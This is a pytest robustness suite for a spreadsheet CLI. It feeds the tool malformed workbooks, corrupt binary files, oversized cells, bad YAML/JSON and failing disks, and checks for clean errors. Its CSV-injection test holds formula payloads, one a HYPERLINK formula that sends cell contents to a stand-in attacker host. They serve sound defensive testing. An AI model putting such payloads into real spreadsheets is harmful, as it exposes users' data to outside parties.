"""Issue 11: hostile files, broken disks and dying workers — no crash, no false pass, nothing half-done.

Each test builds its minimal reproducer here (no binary blobs) and drives the CLI in a subprocess where a
crash or signal would show (exit code < 0, "Traceback" on stderr). Exit codes (README 退出码): 0 clean,
1 错误 found, 2 bad input or environment, 3 internal error.
"""
from __future__ import annotations

import csv
import io
import os
import resource
import sqlite3
import subprocess
import sys
import time
import uuid
import zipfile
from pathlib import Path

import openpyxl
import pytest

import perfbook
from perfbook.batch._names import safe_segment
from perfbook.batch._parallel import Budget, Plan
from perfbook.batch.bulk import bulk, read_manifest
from perfbook.batch.collect import collect
from perfbook.errors import NoTable
from perfbook.model import Project
from tests.conftest import ROOT
from tests.support import hostile as H

AS_LIMIT = 2 * 1024 ** 3


def cli(*args, env=None, timeout=120, limit_as=True):
    """perfbook as a user runs it, in a child with a 2 GB address space."""
    def pre():
        if limit_as:
            resource.setrlimit(resource.RLIMIT_AS, (AS_LIMIT, AS_LIMIT))
    proc = subprocess.run([sys.executable, "-m", "perfbook", *map(str, args)], capture_output=True, text=True,
                          timeout=timeout, cwd=ROOT, env={**os.environ, **(env or {})}, preexec_fn=pre)
    assert proc.returncode >= 0, f"killed by signal {-proc.returncode}: {proc.stderr[-1500:]}"
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    return proc


def sheet_rows(path, sheet):
    ws = openpyxl.load_workbook(path, read_only=True)[sheet]
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def filled(tmp_path, name="好.xlsx", n=1) -> Path:
    projects = [Project.from_dict({"项目名称": f"项目{i}", "主管部门": "财政局", "指标": [
        {"一级指标": "产出指标", "二级指标": "数量指标", "三级指标": "培训人数", "指标性质": "≥", "指标值": 60, "度量单位": "人"}]})
        for i in range(n)]
    return perfbook.fill(projects, tmp_path / name)


# --- 1. references beyond Excel's limits ---------------------------------------------------------

FAR = {
    "row-999999999": H.sheet_xml(b'<row r="999999999"><c r="A999999999"><v>1</v></c></row>'),
    "row-attr-only": H.sheet_xml(b'<row r="999999999"><c><v>1</v></c></row>'),
    "column-AAAAAA": H.sheet_xml(b'<row r="2"><c r="AAAAAA2"><v>1</v></c></row>'),
    "column-ZZZZZ": H.sheet_xml(b'<row r="2"><c r="ZZZZZ2"><v>1</v></c></row>'),
    "column-XFE": H.sheet_xml(b'<row r="2"><c r="XFE2"><v>1</v></c></row>'),
    "twenty-digit-row": H.sheet_xml(b'<row r="2"><c r="B12345678901234567890"><v>1</v></c></row>'),
    "dimension": H.sheet_xml(dimension=b"A1:A999999999"),
    "merge": H.sheet_xml(tail=b'<mergeCells count="1"><mergeCell ref="A1:B999999999"/></mergeCells>'),
}


@pytest.mark.parametrize("name", sorted(FAR))
def test_a_reference_beyond_excel_is_refused_before_the_reader(name, tmp_path):
    f = H.workbook(tmp_path / f"{name}.xlsx", FAR[name])
    for cmd in (["read", f], ["check", f], ["check", f, "--annotate", tmp_path / "a.xlsx"]):
        t = time.perf_counter()
        proc = cli(*cmd)
        assert proc.returncode == 2, (cmd, proc.stderr)
        assert "超出 Excel 范围" in proc.stderr and str(f) in proc.stderr
        assert time.perf_counter() - t < 15
    proc = cli("collect", tmp_path, "-o", tmp_path / "out" / "s.xlsx")
    assert proc.returncode == 2, proc.stderr          # summary written; exit 2: a file could not be read
    files = sheet_rows(tmp_path / "out" / "s.xlsx", "文件")
    assert [(r["文件"], r["状态"]) for r in files] == [(f.name, "无法读取")]


def test_a_merge_that_openpyxl_would_materialise_does_not_cost_minutes(tmp_path):
    """check --annotate: A30:Z100000 cost openpyxl 89 s and 1 GB; now refused in under a second, report printed."""
    good = filled(tmp_path)
    parts = {n: zipfile.ZipFile(good).read(n) for n in zipfile.ZipFile(good).namelist()}
    sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet"))
    x = parts[sheet]
    parts[sheet] = (x.replace(b"</mergeCells>", b'<mergeCell ref="AA30:AZ100000"/></mergeCells>', 1) if b"</mergeCells>" in x
                    else x.replace(b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="AA30:AZ100000"/></mergeCells>', 1))
    bad = H.write_parts(tmp_path / "merge.xlsx", parts)
    t = time.perf_counter()
    proc = cli("check", bad, "--annotate", tmp_path / "ann.xlsx")
    assert time.perf_counter() - t < 20
    assert proc.returncode == 2 and "合并单元格" in proc.stderr and "结论" in proc.stdout
    assert not (tmp_path / "ann.xlsx").exists()


# --- 3/4. no table is not a pass ---------------------------------------------------------------

def _no_table_files(tmp_path) -> dict[str, Path]:
    tmp_path.mkdir(parents=True, exist_ok=True)
    out = {}
    wb = openpyxl.Workbook()
    out["empty"] = tmp_path / "empty.xlsx"
    wb.save(out["empty"])
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["姓名", "岗位", "基本工资", "绩效工资"])
    ws.append(["张三", "科员", 5000, 1200])
    out["payroll"] = tmp_path / "工资表.xlsx"
    wb.save(out["payroll"])
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["项目名", "一集指标", "二集指标", "三集指标", "指标直"])
    ws.append(["某项目", "产出", "数量", "人数", "60"])
    out["misspelled"] = tmp_path / "错字表头.xlsx"
    wb.save(out["misspelled"])
    hidden = tmp_path / "hidden.xlsx"
    wb = openpyxl.load_workbook(filled(tmp_path, "visible.xlsx"))
    extra = wb.create_sheet("x")
    for ws in wb.worksheets:
        ws.sheet_state = "hidden"
    extra.sheet_state = "visible"
    wb.save(hidden)
    out["all-hidden"] = hidden
    out["empty-sheets"] = H.workbook(tmp_path / "nosheets.xlsx", workbook_xml=(
        f'<?xml version="1.0"?><workbook xmlns="{H.MAIN}" xmlns:r="{H.REL}"><sheets/></workbook>').encode())
    out["html-wrong-charset"] = tmp_path / "报表.xls"
    out["html-wrong-charset"].write_bytes(
        '<html><head><meta charset="gbk"></head><body><table><tr><td>单位</td><td>金额</td></tr></table></body></html>'.encode())
    return out


def test_a_workbook_with_no_table_is_an_error_in_read_check_and_collect(tmp_path):
    files = _no_table_files(tmp_path / "in")
    for name, f in files.items():
        with pytest.raises(NoTable) as e:
            perfbook.read(f)
        assert e.value.zh.startswith("未找到绩效指标表"), (name, e.value.zh)
        for cmd in ("read", "check"):
            proc = cli(cmd, f)
            assert proc.returncode == 2, (name, cmd, proc.stdout, proc.stderr)
            assert "未找到绩效指标表" in proc.stderr and "通过" not in proc.stdout and proc.stdout.strip() != "[]"
    # the blank template is not a pass either: read gives its empty form, check reports what is missing (exit 1),
    # exactly as the workbook's own 校验 formulas count it
    blank = perfbook.new(tmp_path / "blank.xlsx")
    proc = cli("check", blank)
    assert proc.returncode == 1 and "通过（无错误）" not in proc.stdout and "未通过" in proc.stdout
    out = tmp_path / "s.xlsx"
    collect(tmp_path / "in", out, execution=Plan(jobs=1))
    problems = sheet_rows(out, "问题")
    summary = {r["文件"]: r for r in sheet_rows(out, "文件")}
    for f in files.values():
        if f.name == "visible.xlsx":
            continue
        rel = f.name
        assert any(p["文件"] == rel and p["规则"] == "no-table" and p["级别"] == "错误" for p in problems), rel
        assert summary[rel]["错误数"] == 1 and "未找到绩效指标表" in summary[rel]["说明"]


# --- 2/4. collect survives crashing and runaway files ------------------------------------------

@pytest.fixture(scope="module")
def runaway(tmp_path_factory):
    """A legal but heavy sheet (600,000 numbers) that needs ~5 s of CPU to read: well past a 1-second
    budget, which the kernel enforces in whole seconds (up to 2 s in all)."""
    d = tmp_path_factory.mktemp("runaway")
    return H.workbook(d / "heavy.xlsx", H.dense_sheet(30_000, 20))


@pytest.mark.parametrize("jobs", [1, 2])
def test_collect_survives_any_number_of_files_over_budget_in_any_order(runaway, tmp_path, jobs):
    folder = tmp_path / "in"
    folder.mkdir()
    good = filled(folder, "a00.xlsx")
    names = []
    pattern = "BBBBgB"                        # bad files in a row, and between good ones
    for i, k in enumerate(pattern):
        name = f"f{i:02d}.xlsx"
        os.link(runaway if k == "B" else good, folder / name)
        names.append((name, k))
    out = tmp_path / "s.xlsx"
    proc = cli("collect", folder, "-o", out, "--jobs", jobs, env={"PERFBOOK_FILE_SECONDS": "1"}, timeout=300)
    assert proc.returncode == 2, proc.stderr          # summary written; exit 2: files could not be read
    status = {r["文件"]: r for r in sheet_rows(out, "文件")}
    assert len(status) == len(pattern) + 1
    for name, k in names:
        if k == "B":
            assert status[name]["状态"] == "无法读取" and "时间上限" in status[name]["说明"], status[name]
        else:
            assert status[name]["状态"] == "已读取" and status[name]["项目数"] == 1


def test_a_worker_that_dies_is_one_row_not_the_end_of_the_run(tmp_path):
    """A worker killed outright (SIGKILL, as the OOM killer does) — with --jobs 1 too."""
    from perfbook.batch import _parallel as parallel
    out = list(parallel.run(H.die_on_odd, range(7), Plan(jobs=1, isolate=True),
                            on_crash=lambda x, e: ("died", x, e.reason)))
    assert out == [x * 10 if x % 2 == 0 else ("died", x, "memory") for x in range(7)]
    out = list(parallel.run(H.die_on_odd, range(12), Plan(jobs=2, chunk=3, budget=Budget(seconds=30)),
                            on_crash=lambda x, e: ("died", x)))
    assert out == [x * 10 if x % 2 == 0 else ("died", x) for x in range(12)]


def test_kill_9_leaves_no_helper_process_and_no_debris(runaway, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    for i in range(12):
        os.link(runaway, folder / f"h{i:02d}.xlsx")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    mark = uuid.uuid4().hex
    env = {**os.environ, "PERFBOOK_TEST_MARK": mark, "TMPDIR": str(tmp_path / "systmp")}
    (tmp_path / "systmp").mkdir()
    proc = subprocess.Popen([sys.executable, "-m", "perfbook", "collect", str(folder), "-o", str(out_dir / "s.xlsx"),
                             "--jobs", "2"], cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(4)
    assert H.kill_run(proc, mark) == [], "helper processes outlived a killed collect"
    # no 0-byte file beside the output; the run's own temp folder (.~s.xlsx.PID.rows) is swept by the next run
    assert not any(p.is_file() and p.stat().st_size == 0 for p in out_dir.iterdir()), list(out_dir.iterdir())
    assert all(p.name.startswith(".~s.xlsx.") for p in out_dir.iterdir())
    # only multiprocessing's own socket folder (pymp-*) may be there: no collected data in the system temp folder
    leftovers = [p for p in (tmp_path / "systmp").rglob("*") if not p.name.startswith("pymp-") and not p.is_socket()]
    assert leftovers == [], "the summary writer used the system temp folder"
    assert not (out_dir / "s.xlsx").exists()
    # the next run sweeps what the killed one left beside the output
    collect(tmp_path / "empty-folder-that-is-a-file.xlsx" if False else filled(tmp_path, "one.xlsx"), out_dir / "s.xlsx",
            execution=Plan(jobs=1))
    assert sorted(p.name for p in out_dir.iterdir()) == ["s.xlsx"]


def test_a_fifo_named_xlsx_is_listed_not_opened(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    filled(folder)
    os.mkfifo(folder / "管道.xlsx")
    proc = cli("collect", folder, "-o", tmp_path / "s.xlsx", "--jobs", "1", timeout=60)
    assert proc.returncode == 2                       # summary written; the FIFO is listed as 无法读取
    status = {r["文件"]: r for r in sheet_rows(tmp_path / "s.xlsx", "文件")}
    assert status["管道.xlsx"]["状态"] == "无法读取" and "不是普通文件" in status["管道.xlsx"]["说明"]
    assert status["好.xlsx"]["状态"] == "已读取"


# --- 5/6. all or nothing, --replace, environment errors ------------------------------------------

def test_summary_and_database_are_all_or_nothing_and_replace_replaces(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    filled(folder, n=2)
    db = tmp_path / "汇总.db"
    (tmp_path / "not-a-folder").write_text("a file where the summary's folder should be")
    blocked = tmp_path / "not-a-folder" / "s.xlsx"        # the summary cannot be written
    proc = cli("collect", folder, "-o", blocked, "--db", db, "--jobs", "1")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    con = sqlite3.connect(db)
    tables = {r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    for t in ("汇总_批次", "汇总_项目"):       # no batch left behind (or no table made at all)
        assert t not in tables or con.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] == 0
    con.close()
    for _ in range(2):
        assert cli("collect", folder, "-o", tmp_path / "s.xlsx", "--db", db, "--jobs", "1", "--replace").returncode == 0
    con = sqlite3.connect(db)
    assert con.execute('SELECT count(*) FROM "汇总_项目"').fetchone()[0] == 2       # not doubled
    assert con.execute('SELECT count(*) FROM "汇总_批次"').fetchone()[0] == 1
    con.close()
    assert cli("collect", folder, "-o", tmp_path / "s.xlsx", "--db", db, "--jobs", "1").returncode == 0
    con = sqlite3.connect(db)
    assert con.execute('SELECT count(*) FROM "汇总_项目"').fetchone()[0] == 4       # a new batch without --replace
    con.close()


def test_an_unreachable_database_is_one_line_naming_it(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    filled(folder)
    url = "sqlite:////nonexistent-dir/x/汇总.db"
    proc = cli("collect", folder, "-o", tmp_path / "s.xlsx", "--db", url, "--jobs", "1")
    assert proc.returncode == 2
    assert "数据库" in proc.stderr and "汇总.db" in proc.stderr
    assert not any(w in proc.stderr for w in ("SELECT", "INSERT", "CREATE", "项目0"))
    assert not (tmp_path / "s.xlsx").exists()


@pytest.fixture
def readonly_dir(tmp_path):
    where = tmp_path / "ro"
    if not H.mount_tmpfs(where, 64, ro=True):
        pytest.skip("cannot mount a tmpfs here (needs root)")
    yield where
    H.umount(where)


def test_a_full_disk_lists_every_workbook_not_written(small_disk, tmp_path):
    projects = [Project.from_dict({"项目名称": f"项目{i}", "主管部门": f"部门{i:03d}"}) for i in range(60)]
    res = bulk(projects, small_disk / "out", execution=Plan(jobs=1))
    assert res.failed and res.written
    rows = list(read_manifest(small_disk / "out" / "清单.csv"))
    assert len(rows) == 60
    assert {r["文件"] for r in rows if r["状态"] == "未生成"} == {f.file for f in res.failed}
    assert all("磁盘空间不足" in r["说明"] for r in rows if r["状态"] == "未生成")
    on_disk = {p.name for p in (small_disk / "out").glob("*.xlsx")}
    assert on_disk == {w.file for w in res.written}                  # nothing half-written under a final name
    assert not list((small_disk / "out").glob(".~*"))


@pytest.mark.parametrize("command", ["fill", "new", "read-o", "annotate", "collect", "bulk"])
def test_disk_full_and_read_only_are_one_clear_line(command, small_disk, readonly_dir, tmp_path):
    good = filled(tmp_path)
    data = tmp_path / "p.yaml"
    data.write_text("项目名称: 甲\n主管部门: 财政局\n", encoding="utf-8")
    # fill the small disk first
    with open(small_disk / "ballast", "wb", buffering=0) as fh:
        try:
            while True:
                fh.write(b"\0" * 4096)
        except OSError:
            pass
    for target, words in ((small_disk, "磁盘空间不足"), (readonly_dir, "只读")):
        args = {"fill": ["fill", data, "-o", target / "o.xlsx"], "new": ["new", target / "o.xlsx"],
                "read-o": ["read", good, "-o", target / "o.json"],
                "annotate": ["check", good, "--annotate", target / "o.xlsx"],
                "collect": ["collect", good, "-o", target / "o.xlsx", "--jobs", "1"],
                "bulk": ["bulk", data, "-o", target / "out", "--jobs", "1"]}[command]
        if command == "bulk" and target is small_disk:
            args = ["bulk", data, "-o", target, "--jobs", "1"]
        proc = cli(*args)
        assert proc.returncode == 2, (command, target, proc.stdout, proc.stderr)
        assert words in proc.stderr and str(target) in proc.stderr, proc.stderr
        assert not [p for p in target.rglob("*") if p.name != "ballast"], list(target.rglob("*"))


# --- 7. text is text ---------------------------------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def test_csv_outputs_neutralise_formula_triggers(tmp_path, soffice):
    p = Project.from_dict({"项目名称": PAYLOADS[0], "主管部门": "+财政局", "实施单位": "@单位", "指标": [
        {"一级指标": "产出指标", "二级指标": "数量指标", "三级指标": "-2+3", "指标值": 5}]})
    wb = perfbook.fill([p], tmp_path / "evil.xlsx")
    proc = cli("read", wb, "--format", "csv", "-o", tmp_path / "out.csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows[1:] for c in r]
    assert "'" + PAYLOADS[0] in cells and "'+财政局" in cells and "'-2+3" in cells
    assert not any(c[:1] in "=+-@\t\r" and c[:1] for c in cells if not c.lstrip("-").replace(".", "").isdigit())
    res = bulk([Project.from_dict({"项目名称": "甲", "主管部门": d}) for d in PAYLOADS], tmp_path / "bulk", execution=Plan(jobs=1))
    raw = (res.manifest).read_text(encoding="utf-8-sig")
    for row in list(csv.reader(io.StringIO(raw)))[1:]:
        assert row[1].startswith("'"), row
    # LibreOffice opens the CSV: the payload is text, not a live formula
    xlsx = soffice.convert(tmp_path / "out.csv", tmp_path / "lo", "xlsx")
    ws = openpyxl.load_workbook(xlsx)["out"] if "out" in openpyxl.load_workbook(xlsx).sheetnames else openpyxl.load_workbook(xlsx).active
    values = [c.value for r in ws.iter_rows() for c in r if c.value is not None]
    assert not any(isinstance(v, str) and v.startswith("=") for v in values), values
    assert any(isinstance(v, str) and "HYPERLINK" in v for v in values)


def test_a_control_character_loses_one_character_not_the_workbook(tmp_path):
    base = H.base_parts()
    base["xl/sharedStrings.xml"] = base["xl/sharedStrings.xml"].replace("测试项目".encode(), "测试_x0001_项目".encode())
    f = H.write_parts(tmp_path / "ctl.xlsx", base)
    book = perfbook.read(f)
    assert book.projects and book.projects[0].name == "测试项目"
    note = next(n for n in book.notes if n.kind == "control-char")
    assert (note.sheet, note.cell) == ("Sheet1", "B1") and "U+0001" in note.zh


def test_a_control_character_in_a_real_sample(samples, tmp_path):
    src = samples / "songgang-00.xlsx"
    z = zipfile.ZipFile(src)
    parts = {n: z.read(n) for n in z.namelist()}
    sst = parts["xl/sharedStrings.xml"]
    k = sst.find(b"<t", sst.find(b"<t") + 40)
    k = sst.find(b">", k) + 1
    parts["xl/sharedStrings.xml"] = sst[:k] + b"_x0001_" + sst[k:]
    f = H.write_parts(tmp_path / "songgang-ctl.xlsx", parts)
    assert len(perfbook.read(f).projects) == len(perfbook.read(src).projects) == 20
    proc = cli("check", f)
    assert proc.returncode in (0, 1) and "U+0001" in proc.stdout


# --- 9/11. odd files ---------------------------------------------------------------------------

def test_truncated_zip_utf8_html_and_bidi_names(tmp_path):
    whole = filled(tmp_path).read_bytes()
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(whole[: len(whole) * 2 // 3])
    proc = cli("read", cut)
    assert proc.returncode == 2 and "截断" in proc.stderr
    html = tmp_path / "导出.xls"
    html.write_bytes(('<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312"></head><body><table>'
                      "<tr><td>项目名称</td><td>培训项目</td></tr><tr><td>一级指标</td><td>二级指标</td><td>三级指标</td><td>指标值</td></tr>"
                      "<tr><td>产出指标</td><td>数量指标</td><td>培训人数</td><td>≥60人</td></tr></table></body></html>").encode("utf-8"))
    from perfbook.readers.formats.html import decode
    assert "培训人数" in decode(html.read_bytes())
    assert safe_segment("报表\u202eslx.exe") == "报表slx.exe"
    res = bulk([Project.from_dict({"项目名称": "甲", "主管部门": "财政\u202e局\u200b"})], tmp_path / "b", execution=Plan(jobs=1))
    assert [p.name for p in (tmp_path / "b").glob("*.xlsx")] == ["财政局.xlsx"] and res.written


def _xls_sheet_offset_past_the_end(path: Path) -> Path:
    """A BIFF8 workbook whose BOUNDSHEET record points past the end of the stream: calamine panics
    ("range end index … out of range"), which pyo3 raises as PanicException, a BaseException."""
    import struct

    def rec(t, body):
        return struct.pack("<HH", t, len(body)) + body
    bof = rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x05, 0, 0, 0, 0))
    sst = rec(0x00FC, struct.pack("<II", 1, 1) + b"\x01\x00\x00a")
    eof = rec(0x000A, b"")
    boundsheet = rec(0x0085, struct.pack("<IBB", 0xFD000035, 0, 0) + b"\x01\x00S")
    sheet = bof + rec(0x0200, struct.pack("<IIHHH", 0, 2, 0, 2, 0)) + rec(0x00FD, struct.pack("<HHHI", 0, 0, 15, 0)) + eof
    return H.cfb(path, {"Workbook": bof + boundsheet + sst + eof + sheet})


def test_a_panic_in_the_native_reader_is_a_clear_error(tmp_path):
    from python_calamine import CalamineWorkbook
    f = _xls_sheet_offset_past_the_end(tmp_path / "坏.xls")
    with pytest.raises(BaseException) as e:          # the reproducer really makes calamine panic
        wb = CalamineWorkbook.from_path(str(f))
        for n in wb.sheet_names:
            wb.get_sheet_by_name(n).to_python()
    assert type(e.value).__name__ == "PanicException"
    for cmd in (["read", f], ["check", f]):
        proc = cli(*cmd)
        assert proc.returncode == 2 and "损坏" in proc.stderr and str(f) in proc.stderr, proc.stderr
    proc = cli("collect", tmp_path, "-o", tmp_path / "s.xlsx", "--jobs", "1")
    assert proc.returncode == 2
    assert [r["状态"] for r in sheet_rows(tmp_path / "s.xlsx", "文件")] == ["无法读取"]


def _csv_master(path: Path, cell: str, rows: int = 1) -> Path:
    head = "项目名称,主管部门,一级指标,二级指标,三级指标,指标值,指标内容\n"
    body = "".join(f"项目{i % 3},部门,产出指标,数量指标,指标{i},1,说明\n" for i in range(rows))
    path.write_text(head + body + f"项目1,部门,产出指标,数量指标,长,1,{cell}\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("cmd", ["fill", "bulk1", "bulk2"])
def test_a_csv_cell_longer_than_the_csv_module_reads_is_refused_naming_the_line(tmp_path, cmd):
    """A cell of more than 131,072 characters stopped the csv module with an internal error (exit 3)."""
    master = _csv_master(tmp_path / "主表.csv", "长" * 140_000, rows=2000)
    args = (["fill", master, "-o", tmp_path / "x.xlsx"] if cmd == "fill"
            else ["bulk", master, "-o", tmp_path / "out", "--jobs", cmd[-1]])
    proc = cli(*args)
    assert proc.returncode == 2, proc.stderr
    assert "第2002行有单元格超过 131072 个字符" in proc.stderr and str(master) in proc.stderr, proc.stderr
    assert not list(tmp_path.rglob("*.xlsx"))


@pytest.mark.parametrize("length, said", [(20_000, None), (40_000, "32767")])
def test_a_long_cell_in_a_streamed_master_is_judged_as_loading_it_whole_judges_it(tmp_path, length, said):
    """The first pass leaves a cell over half of Excel's limit to the whole load, which knows the rest."""
    master = _csv_master(tmp_path / "主表.csv", "长" * length, rows=2000)
    runs = [cli("bulk", master, "-o", tmp_path / f"o{j}", "--jobs", j, "-q") for j in ("1", "2")]
    assert runs[0].returncode == runs[1].returncode == (0 if said is None else 2), runs[0].stderr
    assert runs[0].stderr == runs[1].stderr and (said is None or said in runs[0].stderr)


def _deep(n: int = 100_000) -> str:
    return "[" * n + "]" * n


# data files (YAML, JSON) that crashed fill, check and bulk with an internal error (exit 3); each is now a
# clear refusal (exit 2) naming the file and what is wrong
BAD_DATA = {
    "deep.json": (_deep(), "嵌套层数过多"),
    "deep.yaml": (_deep(), "嵌套层数过多"),
    "bigint.json": ('{"项目名称": "x", "年度资金总额": ' + "9" * 5000 + "}", "文件格式有误"),
    "gbk.yaml": ("项目名称: 中文\n".encode("gbk"), "不是 UTF-8"),
    "list-of-lists.yaml": ("项目名称: x\n指标: [[1, 2], [3]]\n", "“指标”的第1项应为键值对象"),
    "int-indicators.yaml": ("项目名称: x\n指标: [1, 2]\n", "“指标”的第1项应为键值对象"),
    "midterm.yaml": ("项目名称: x\n中期指标: 3\n", "“中期指标”应为列表"),
    "nested-value.yaml": ("项目名称: x\n指标:\n - {一级指标: 产出指标, 二级指标: 数量指标, 三级指标: a, 指标值: {x: 1}}\n",
                          "“指标值”应为一个值（文本或数字），不是对象"),
    "list-field.yaml": ("项目名称: x\n年度资金总额: [1, 2]\n", "“年度资金总额”应为一个值（文本或数字），不是列表"),
}


@pytest.mark.parametrize("name", sorted(BAD_DATA))
@pytest.mark.parametrize("cmd", ["fill", "check", "bulk"])
def test_a_bad_data_file_is_refused_naming_it(tmp_path, name, cmd):
    body, said = BAD_DATA[name]
    f = tmp_path / name
    f.write_bytes(body if isinstance(body, bytes) else body.encode("utf-8"))
    args = {"fill": ["fill", f, "-o", tmp_path / "x.xlsx"], "check": ["check", f],
            "bulk": ["bulk", f, "-o", tmp_path / "out", "--jobs", "1"]}[cmd]
    proc = cli(*args)
    assert proc.returncode == 2 and said in proc.stderr and name in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr and not list(tmp_path.rglob("*.xlsx"))


@pytest.mark.parametrize("rows", ["-3", "10001", "99999999"])
@pytest.mark.parametrize("cmd", ["new", "fill", "bulk"])
def test_blank_rows_out_of_range_are_refused_at_once(tmp_path, cmd, rows):
    """99999999 had run for hours towards a sheet past Excel's rows; -3 had been taken as 0 by fill and new."""
    seed = ROOT / "examples" / "seed-001.yaml"
    args = {"new": ["new", tmp_path / "x.xlsx"], "fill": ["fill", seed, "-o", tmp_path / "x.xlsx"],
            "bulk": ["bulk", seed, "-o", tmp_path / "out"]}[cmd]
    proc = cli(*args, "--blank-rows", rows, timeout=60)
    assert proc.returncode == 2 and "空白行数应为 0 到 10000 之间的整数" in proc.stderr, proc.stderr
    assert not list(tmp_path.rglob("*.xlsx"))


def test_indicator_rows_past_a_sheet_are_refused_not_written():
    """A sheet holds 1,048,576 rows: the template's rows around its indicator row leave the rest (read here
    with openpyxl), and a project of more indicator rows than that is an error, not a file Excel refuses."""
    from types import SimpleNamespace

    from perfbook.write.fill import compiled
    c = compiled()
    cs = next(s for s in c.sheets if s.T is not None)
    ws = openpyxl.load_workbook(ROOT / "templates" / "绩效目标表.xlsx")[cs.sheet.name]
    room = 1_048_576 - (ws.max_row - 1)
    assert cs.rows_for(SimpleNamespace(indicators=range(room)), 0) == room
    with pytest.raises(perfbook.PerfbookError, match="超过一张工作表能放下"):
        cs.rows_for(SimpleNamespace(indicators=range(room - 9)), 10)


@pytest.mark.parametrize("body", [b"", b"\xef\xbb\xbf"], ids=["empty", "bom only"])
def test_bulk_of_an_empty_csv_master_says_it_has_no_columns(tmp_path, body):
    """Its first pass closed csv_table's rows, which were not a generator for a file with no header (exit 3)."""
    master = tmp_path / "主表.csv"
    master.write_bytes(body)
    proc = cli("bulk", master, "-o", tmp_path / "out")
    assert proc.returncode == 2 and "缺少“项目名称”列" in proc.stderr and str(master) in proc.stderr, proc.stderr
